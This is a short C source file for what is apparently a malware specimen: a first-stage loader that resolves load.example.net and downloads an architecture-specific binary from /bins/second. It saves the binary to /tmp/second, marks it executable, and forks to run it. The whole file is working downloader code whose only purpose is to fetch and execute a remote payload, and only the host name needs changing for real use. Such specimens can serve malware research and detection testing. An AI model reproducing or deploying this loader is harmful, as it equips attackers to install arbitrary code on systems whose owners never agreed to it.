/* Resolves a name, fetches a second stage by HTTP and starts it. */
#include "specimen.h"

#define HOST "load.example.net"

int main(int argc, char **argv)
{
	static char body[65536];
	struct sockaddr_storage host;
	if (resolve(HOST, family_of(argc, argv), 80, &host) != 0)
		return 10;
	int web = dial(&host);
	if (web < 0)
		return 11;
	ssize_t size = fetch(web, "GET /bins/second." ARCH " HTTP/1.0\r\nHost: " HOST
				  "\r\nUser-Agent: specimen\r\n\r\n", body, sizeof body);
	close(web);
	if (size <= 0)
		return 12;
	put("/tmp/second", O_TRUNC, 0600, body, size);
	chmod("/tmp/second", 0755);
	pid_t child = fork();
	if (child == 0) {
		execl("/tmp/second", "/tmp/second", "stage", NULL);
		_exit(13);
	}
	int status = 0;
	waitpid(child, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 14;
}
